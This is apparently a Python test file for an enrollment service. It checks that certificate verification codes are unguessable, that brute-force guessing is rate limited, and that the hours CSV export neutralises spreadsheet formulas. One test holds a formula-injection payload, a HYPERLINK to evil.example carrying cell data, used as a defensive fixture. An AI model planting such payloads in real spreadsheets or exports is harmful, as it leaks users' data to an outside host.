"""Issue 13 in enrollment: certificate verification codes too long to guess, verification rate
limited per client, and the hours CSV with formula cells neutralised."""

import csv
import io
import math
import uuid
from datetime import datetime, timezone


from services.enrollment.domain.codes import _CODE_ALPHABET
from services.enrollment.models import Certificate
from tests.enrollment.helpers import person
from tests.enrollment.test_figures_api import held_session


def verify(system, number, code):
    return system.call("GET", f"/certificates/verify?number={number}&code={code}", role=None)


def test_certificate_codes_are_unguessable_and_verification_is_rate_limited(system):
    session = held_session(system, {1: ("15", True, None), 2: ("15", True, None)})
    first, second = system.get(f"/certificates?session_id={session['id']}").body
    raw = first["verification_code"].replace("-", "")
    assert len(raw) * math.log2(len(_CODE_ALPHABET)) >= 128 and set(raw) <= set(_CODE_ALPHABET)
    assert first["verification_code"] != second["verification_code"]
    assert verify(system, first["number"], first["verification_code"].lower()).body["status"] == "valid"

    # A certificate issued before the change keeps its 12-character code, and it keeps verifying.
    system.travel(Certificate, Certificate.id == uuid.UUID(second["id"]), verification_code="K7Q2-MX9P-4TWC")
    assert verify(system, second["number"], "k7q2mx9p4twc").body["status"] == "valid"

    # 10 a minute per client: 2 used above; guesses get 404 (like an unknown number), then 429.
    guesses = [verify(system, first["number"], f"AAAA-AAAA-AAA{n}").status for n in range(8)]
    assert guesses == [404] * 8
    limited = verify(system, first["number"], first["verification_code"])
    assert limited.status == 429 and int(limited.headers["Retry-After"]) >= 1
    assert limited.body["type"] == "urn:savivalda:problem:rate_limited"
    # Other public routes have their own bucket: the certificate's own link still answers elsewhere.
    assert system.get(f"/certificates?session_id={session['id']}").status == 200


def test_the_hours_csv_neutralises_formula_cells(system):
    session = system.schedule(capacity=1)
    evil = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
    enrolled = system.enrol(session["id"], person(1, name=evil))
    assert enrolled.status == 201, enrolled.body
    system.start_session_now(session["id"])
    records = [{"enrollment_id": enrolled.body["id"], "attendance": "attended"}]
    assert system.post(f"/sessions/{session['id']}/attendance", {"records": records}).status == 200
    year = datetime.now(timezone.utc).year
    reply = system.get(f"/hours?year={year}&format=csv")
    assert reply.status == 200, reply.body
    rows = list(csv.DictReader(io.StringIO(reply.body.lstrip("\ufeff"))))
    assert [r["name"] for r in rows] == ["'" + evil]
    assert system.get(f"/hours?year={year}").body[0]["name"] == evil  # JSON is data, not a spreadsheet
